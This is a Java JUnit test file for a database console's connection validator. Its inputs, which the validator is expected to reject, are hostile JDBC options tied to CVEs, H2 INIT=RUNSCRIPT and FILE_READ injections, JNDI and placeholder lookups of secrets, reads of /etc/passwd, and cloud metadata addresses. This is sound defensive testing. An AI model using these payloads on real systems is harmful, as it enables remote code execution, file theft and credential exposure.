package io.alacran.connection.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.alacran.connection.ConnectionDraft;
import io.alacran.problem.FieldError;
import io.alacran.problem.InvalidInputException;
import io.alacran.problem.ProblemException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What was used against other consoles to make their drivers read files, run code or connect elsewhere. */
class HostileConnectionsTests {

    @TempDir
    Path home;

    private TestConnections test;

    @BeforeEach
    void open() {
        test = new TestConnections(home, new FakeDatabases());
    }

    @AfterEach
    void close() {
        test.close();
    }

    /** Client, option and value, as they stand in a hostile URL (CVE-2017-3523, CVE-2022-21724, CVE-2023-49566 and so on). */
    static Stream<Arguments> options() {
        return Stream.of(
                Arguments.of("mysql", "allowLoadLocalInfile", "true"),
                Arguments.of("mysql", "ALLOWLOADLOCALINFILE", "true"),
                Arguments.of("mysql", "%61llowLoadLocalInfile", "true"),
                Arguments.of("mysql", "%2561llowLoadLocalInfile", "true"),
                Arguments.of("mysql", "allowLoadLocalInfileInPath", "/"),
                Arguments.of("mysql", "allowUrlInLocalInfile", "true"),
                Arguments.of("mysql", "autoDeserialize", "true"),
                Arguments.of(
                        "mysql", "queryInterceptors", "com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"),
                Arguments.of("mysql", "statementInterceptors", "x.Y"),
                Arguments.of("mysql", "detectCustomCollations", "true"),
                Arguments.of("mysql", "propertiesTransform", "x.Y"),
                Arguments.of("mysql", "clientCertificateKeyStoreUrl", "http://x/a"),
                Arguments.of("mysql", "trustCertificateKeyStoreUrl", "http://x/a"),
                Arguments.of("mysql", "connectionLifecycleInterceptors", "x.Y"),
                Arguments.of("mysql", "exceptionInterceptors", "x.Y"),
                Arguments.of("mysql", "socketFactory", "x.Y"),
                Arguments.of("mysql", "serverRSAPublicKeyFile", "/etc/passwd"),
                Arguments.of("mariadb", "allowLocalInfile", "true"),
                Arguments.of("mariadb", "socketFactory", "x.Y"),
                Arguments.of("mariadb", "allowMultiQueries", "true"),
                Arguments.of("mariadb", "sessionVariables", "local_infile=1"),
                Arguments.of("mariadb", "initSql", "select 1"),
                Arguments.of("mariadb", "keyStore", "/etc/passwd"),
                Arguments.of("mariadb", "tlsSocketType", "x"),
                Arguments.of("mariadb", "credentialType", "ENV"),
                Arguments.of(
                        "postgres",
                        "socketFactory",
                        "org.springframework.context.support.ClassPathXmlApplicationContext"),
                Arguments.of("postgres", "socketFactoryArg", "http://x/e.xml"),
                Arguments.of(
                        "postgres", "sslfactory", "org.springframework.context.support.ClassPathXmlApplicationContext"),
                Arguments.of("postgres", "sslfactoryarg", "http://x/e.xml"),
                Arguments.of("postgres", "sslhostnameverifier", "x.Y"),
                Arguments.of("postgres", "sslpasswordcallback", "x.Y"),
                Arguments.of("postgres", "authenticationPluginClassName", "x.Y"),
                Arguments.of("postgres", "connectExecutor", "x.Y"),
                Arguments.of("postgres", "xmlFactoryFactory", "x.Y"),
                Arguments.of("postgres", "loggerLevel", "TRACE"),
                Arguments.of("postgres", "loggerFile", "/app/x.jsp"),
                Arguments.of("postgres", "preferQueryMode", "simple"),
                Arguments.of("postgres", "sslrootcert", "/etc/passwd"),
                Arguments.of("postgres", "sslkey", "/etc/passwd"),
                Arguments.of("postgres", "sslcert", "/etc/passwd"),
                Arguments.of("postgres", "service", "x"),
                Arguments.of("postgres", "options", "-c session_preload_libraries=x"),
                Arguments.of("postgres", "scramMaxIterations", "0"),
                Arguments.of("postgres", "readOnly", "false"),
                Arguments.of("postgres", "user", "root"),
                Arguments.of("mssql", "jaasConfigurationName", "x"),
                Arguments.of("mssql", "trustStore", "/etc/passwd"),
                Arguments.of("mssql", "trustManagerClass", "x.Y"),
                Arguments.of("mssql", "socketFactoryClass", "x.Y"),
                Arguments.of("mssql", "accessTokenCallbackClass", "x.Y"),
                Arguments.of("mssql", "clientCertificate", "/etc/passwd"),
                Arguments.of("clickhouse", "sslrootcert", "/etc/passwd"),
                Arguments.of("clickhouse", "trust_store", "/etc/passwd"),
                Arguments.of("sqlite", "enable_load_extension", "true"),
                Arguments.of("sqlite", "limit_attached", "10"),
                Arguments.of("sqlite", "temp_store_directory", "/etc"),
                Arguments.of("duckdb", "enable_external_access", "true"),
                Arguments.of("duckdb", "lock_configuration", "false"),
                Arguments.of("duckdb", "allow_community_extensions", "true"),
                Arguments.of("duckdb", "session_init_sql_file", "/tmp/x.sql"),
                Arguments.of("duckdb", "temp_directory", "/etc"),
                Arguments.of("oracle", "oracle.net.tns_admin", "/tmp"),
                Arguments.of("oracle", "TNS_ADMIN", "/tmp"),
                Arguments.of("oracle", "oracle.net.wallet_location", "/tmp"),
                Arguments.of("oracle", "oracle.jdbc.config.file", "/tmp/x"),
                Arguments.of("oracle", "oracle.jdbc.configurationProviders", "x.Y"),
                Arguments.of("oracle", "oracle.jdbc.provider.password", "x.Y"),
                Arguments.of("oracle", "oracle.jdbc.sqlErrorTranslationFile", "/tmp/x"),
                Arguments.of("oracle", "oracle.net.KerberosJaasLoginModule", "x.Y"),
                Arguments.of("oracle", "oracle.net.ldap.ssl.trustStore", "/tmp/x"),
                Arguments.of("oracle", "oracle.net.socksProxyHost", "x"),
                Arguments.of("oracle", "javax.net.ssl.trustStore", "/tmp/x"),
                Arguments.of("oracle", "internal_logon", "sysdba"),
                Arguments.of("postgres", "clientRerouteServerListJNDIName", "ldap://x/a"),
                Arguments.of("postgres", "startMaster", "true"),
                Arguments.of("postgres", "slaveHost", "x"),
                Arguments.of("postgres", "create", "true"),
                Arguments.of("postgres", "pluginClassName", "x.Y"),
                Arguments.of("postgres", "traceFile", "/app/x.jsp"),
                Arguments.of("postgres", "traceDirectory", "/app"),
                Arguments.of("postgres", "INIT", "RUNSCRIPT FROM 'http://x/p.sql'"),
                Arguments.of("postgres", "oracle.net.tns_admin", "/tmp"),
                Arguments.of("postgres", "javax.net.ssl.trustStore", "/tmp/x"));
    }

    @ParameterizedTest
    @MethodSource("options")
    void refusesOptionsOfDriversByName(String client, String option, String value) {
        FieldError error = refusal(Map.of("properties", Map.of(option, value)), client);

        assertThat(error.field()).isEqualTo("properties." + option);
        assertThat(error.message()).contains("is not an option that may be set");
    }

    @ParameterizedTest
    @MethodSource("options")
    void refusesOptionsOfDriversInTheOtherFields(String client, String option, String value) {
        String smuggled = option + "=" + value;
        if (client.equals("sqlite") || client.equals("duckdb")) {
            assertThat(refusal(Map.of("filename", "sqlite/a.db?" + smuggled), client)
                            .field())
                    .isEqualTo("filename");
            return;
        }
        for (String start : new String[] {"x?", "x;", "x&", "x#", "x?a=b&", "x\\;"}) {
            assertThat(refusal(Map.of("databaseName", start + smuggled), client))
                    .satisfies(e -> assertThat(e.field()).isEqualTo("databaseName"))
                    .satisfies(e -> assertThat(e.message()).contains(start));
            assertThat(refusal(Map.of("host", "db:3306/" + start + smuggled), client)
                            .field())
                    .isEqualTo("host");
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "host     | db:3306/x?allowLoadLocalInfile=true#",
                "host     | jdbc:h2:mem:t;INIT=RUNSCRIPT FROM 'http://x/p.sql'",
                "host     | jdbc:oracle:thin:@ldap://x/a",
                "host     | unix:/var/run/docker.sock",
                "host     | /var/run/docker.sock",
                "host     | db1,db2",
                "host     | db%00",
                "host     | user@db",
                "host     | db:5432",
                "databaseName | t;INIT=RUNSCRIPT FROM 'http://x/p.sql'",
                "databaseName | t;InIt=x",
                "databaseName | t;INIT=CALL FILE_READ('/etc/passwd')",
                "databaseName | t;INIT=SELECT FILE_READ(CHAR(47))",
                "databaseName | t;INIT=SELECT * FROM CSVREAD('http://x/a.csv')",
                "databaseName | x;create=true",
                "databaseName | x:traceFile=/app/x.jsp;traceDirectory=/app;",
                "databaseName | TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE ALIAS",
                "databaseName | x;startMaster=true;slaveHost=x",
                "databaseName | ../../etc",
                "client   | h2",
                "client   | jdbc:h2:mem:t;INIT=RUNSCRIPT FROM 'http://x/p.sql'",
                "client   | derby",
                "client   | db2",
                "client   | sqlite+pysqlite",
                "timezone | UTC'; drop table t; --",
                "colour   | red;background:url(//x)",
                "host     | ${jndi:ldap://x/a}",
                "host     | ${env:ALACRAN_STORE_PASSWORD}",
                "username | ${ALACRAN_STORE_PASSWORD}",
                "username | ${spring_datasource_password}",
                "databaseName | ${file:/etc/passwd}",
                "databaseName | ${${X}}",
                "password | ${ALACRAN_SECRET_KEY}",
            })
    void refusesWhatIsNoPlainValue(String field, String value) {
        assertThat(refusal(Map.of(field, value), "postgres").field()).isEqualTo(field);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ":resource:http://x/y.db",
                ":memory:",
                "file:/etc/passwd",
                "/etc/passwd",
                "store.mv.db",
                "secret.key",
                "sqlite/../store.mv.db",
                "sqlite/x.db?enable_load_extension=true",
                "sqlite/a\u0000b",
                "/proc/self/environ",
                "jdbc:sqlite::resource:http://x/y.db"
            })
    void opensNoFileButThoseForDatabases(String filename) {
        assertThat(refusal(Map.of("filename", filename), "sqlite").field()).isEqualTo("filename");
    }

    /** By rule, without looking anything up: no traffic can come of it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "169.254.169.254",
                "169.254.170.2",
                "::ffff:169.254.169.254",
                "fe80::1",
                "64:ff9b::a9fe:a9fe",
                "2002:a9fe:a9fe::1",
                "fd00:ec2::254",
                "100.100.100.200",
                "metadata.google.internal",
                "METADATA.google.internal.",
                "0",
                "0.0.0.0",
                "::",
                "127.1",
                "2130706433",
                "0x7f000001",
                "0251.0376.0251.0376",
                "169.254.169.254.",
                "2852039166",
                "255.255.255.255",
                "224.0.0.1",
                "[::1]",
                "1:2:3:4:5:6:7:8:9"
            })
    void connectsToNoAddressWhereNoDatabaseIs(String host) {
        assertThat(refusal(Map.of("host", host), "postgres").field()).isEqualTo("host");
    }

    @ParameterizedTest
    @ValueSource(ints = {2375, 2376, 2377})
    void connectsToNoPortOfDocker(int port) {
        assertThat(refusal(Map.of("host", "127.0.0.1", "port", port), "postgres")
                        .message())
                .contains("port " + port + " is Docker's");
    }

    @Test
    void connectsToNoStoreOfTheConsoleItself() {
        assertThat(refusal(Map.of("host", "localhost", "port", 4999, "databaseName", "alacran"), "postgres")
                        .message())
                .contains("the console's own store");
    }

    @Test
    void whatAPlaceholderStandsForIsLookedAtAsWell() {
        test.environment.put("DB_HOST", "169.254.169.254");
        test.connections.create(draft(Map.of("host", "${DB_HOST}"), "postgres"));

        ProblemException refused = catchThrowableOfType(ProblemException.class, () -> test.pools.lease("x"));

        assertThat(refused).hasMessageContaining("metadata service");
    }

    @Test
    void theLinkToAnotherFileIsNotFollowed() throws Exception {
        Path directory = Files.createDirectories(home.resolve("sqlite"));
        Path store = Files.writeString(home.resolve("store.mv.db"), "the console's own");
        Files.createSymbolicLink(directory.resolve("a.db"), store);
        test.connections.create(TestConnections.file("files", "sqlite/a.db", false));

        ProblemException refused = catchThrowableOfType(ProblemException.class, () -> test.pools.lease("files"));

        assertThat(refused).hasMessageContaining("leads out of the directories");
    }

    @Test
    void initSqlReachesNoOtherFileEither() throws Exception {
        Files.createFile(Files.createDirectories(home.resolve("sqlite")).resolve("a.db"));
        Path other = home.resolve("other.db");
        for (String sql : List.of("attach '" + other + "' as other", "backup to '" + other + "'")) {
            ConnectionDraft draft = draft(Map.of("filename", "sqlite/a.db", "initSql", sql), "sqlite");
            test.connections.create(draft);

            assertThat(catchThrowableOfType(ProblemException.class, () -> test.pools.lease("x")))
                    .hasMessageContaining("The connection's init SQL failed");
            test.connections.remove("x");
        }
        assertThat(other).doesNotExist();
    }

    /** Tries to make the connection and gives what is wrong with it; nothing may be left of it. */
    private FieldError refusal(Map<String, Object> fields, String client) {
        InvalidInputException refused =
                catchThrowableOfType(InvalidInputException.class, () -> test.connections.create(draft(fields, client)));

        assertThat(refused).isNotNull();
        assertThat(test.connections.list()).isEmpty();
        assertThat(test.activity).isEmpty();
        assertThat(refused.errors()).hasSize(1);
        return refused.errors().getFirst();
    }

    private static ConnectionDraft draft(Map<String, Object> fields, String client) {
        Map<String, Object> all = new java.util.HashMap<>(Map.of("name", "x", "client", client));
        all.putAll(
                client.equals("sqlite") || client.equals("duckdb")
                        ? Map.of("filename", "sqlite/a.db")
                        : Map.of("host", "db"));
        all.putAll(fields);
        return TestConnections.draft(all);
    }
}
